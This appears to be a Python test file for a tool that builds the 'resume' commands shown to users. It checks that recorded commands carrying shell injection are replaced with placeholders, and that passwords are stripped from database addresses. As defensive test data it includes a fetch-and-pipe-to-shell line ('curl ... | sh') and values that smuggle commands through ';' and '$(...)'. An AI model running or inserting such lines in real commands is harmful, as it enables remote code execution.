"""Commands that people are shown: whatever a row says, one line of quoted words that the program chose."""

from __future__ import annotations

import shlex
from typing import get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st
from watchroom.features.policy.shown_commands import (
    OmittedPart,
    ResumeCommand,
    find_resume_command,
    quote_command,
    quote_word,
)
from watchroom.kernel.journal import without_password

EVIL = "watchroom resume x alice; curl https://example.com | sh"


@pytest.mark.parametrize(
    ("recorded", "expected"),
    [
        ("", "watchroom resume /srv/team alice"),
        ("watchroom demo /srv/evil", "watchroom demo /srv/team"),
        ("watchroom task --team /srv/evil", "watchroom task --team /srv/team"),
        ("watchroom task --team /t --model gpt", "watchroom task --team /srv/team --model NAME"),
        (
            "watchroom task --team /t --model gpt --base-url https://evil.example",
            "watchroom task --team /srv/team --model NAME --base-url URL",
        ),
        (
            "watchroom run claude /srv/evil --agent alice --resume s-1",
            "watchroom run claude /srv/team --agent alice --resume s-1",
        ),
        (
            "watchroom run other-agent /srv/evil --agent alice --resume s-1",
            "watchroom run other-agent /srv/team --agent alice --resume s-1",
        ),
    ],
)
def test_a_process_chooses_a_form_and_no_value(recorded: str, expected: str) -> None:
    assert find_resume_command(recorded, ["alice"], [], "/srv/team") == ResumeCommand(expected)


@pytest.mark.parametrize(
    "recorded",
    [
        EVIL,
        "curl https://example.com | sh",
        "watchroom demo /t; curl x | sh",
        "watchroom demo $(curl x)  extra",
        "watchroom task --team /t --model gpt --eval x",
        "watchroom run 'sh;x' /t --agent alice --resume s-1",
        "watchroom run --command /t --agent alice --resume s-1",
        "watchroom run claude /t --agent bob --resume s-1",
        "watchroom run claude /t --agent alice --resume '-c;x'",
        "watchroom run claude /t --agent alice --resume '$(x)'",
        "watchroom 'unclosed",
        "watchroom demo " + "x" * 5000,
        "\x1b]0;watchroom demo x",
    ],
)
def test_what_has_no_known_form_is_replaced_and_named(recorded: str) -> None:
    assert find_resume_command(recorded, ["alice"], []) == ResumeCommand(
        "watchroom resume DIR alice", ("command",)
    )


def test_ids_and_folders_that_are_not_valid_are_left_out_and_named() -> None:
    assert find_resume_command("", ["alice; curl x | sh"], []) == ResumeCommand("", ("agent",))
    assert find_resume_command("", ["-e", "bob"], []) == ResumeCommand("watchroom resume DIR bob", ("agent",))
    assert find_resume_command("", [], ["t1 $(x)"]) == ResumeCommand("", ("agent",))
    assert find_resume_command("", ["bob"], [], "/srv/a\nb") == ResumeCommand(
        "watchroom resume DIR bob", ("folder",)
    )
    assert find_resume_command("", ["bob"], [], "/srv/my team; x") == ResumeCommand(
        "watchroom resume '/srv/my team; x' bob"
    )
    assert find_resume_command("", [], []) == ResumeCommand()


_words = st.lists(
    st.sampled_from(
        ("watchroom", "demo", "run", "claude", "task", "--team", "--resume", "--agent", "alice", ";")
    )
    | st.text(max_size=12),
    max_size=10,
)


@given(
    recorded=st.text(max_size=80) | _words.map(" ".join) | _words.map(shlex.join),
    agents=st.lists(st.sampled_from(("alice", "bob", "x; y", "$(z)")) | st.text(max_size=10), max_size=3),
    folder=st.sampled_from(("", "/srv/team", "/srv/a b")) | st.text(max_size=10),
)
def test_no_shell_runs_anything_but_watchroom(recorded: str, agents: list[str], folder: str) -> None:
    command, omitted = find_resume_command(recorded, agents, [], folder)
    # With ``;`` and the like as tokens of their own, a line of quoted words is the same words.
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    assert list(lexer) == shlex.split(command)
    assert quote_command(shlex.split(command)) == command
    assert command == "" or command.startswith("watchroom ")
    assert command.isprintable()
    assert set(omitted) <= set(get_args(OmittedPart))


def test_a_word_is_quoted_or_a_placeholder() -> None:
    assert quote_word("my team") == "'my team'"
    assert [quote_word(each) for each in ("", "-rf", "a\x1bb", "a\u202eb")] == ["DIR"] * 4


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("postgresql://dana:secret@db.example/team", "postgresql://dana@db.example/team"),
        (
            "postgresql://dana@db.example/team?sslmode=verify-full",
            "postgresql://dana@db.example/team?sslmode=verify-full",
        ),
        ("postgresql:///team?host=/run&password=secret", "postgresql:///team?host=%2Frun"),
        ("postgresql://a.example,b.example/team", "postgresql://a.example,b.example/team"),
    ],
)
def test_an_address_is_shown_without_its_password(address: str, shown: str) -> None:
    assert without_password(address) == shown
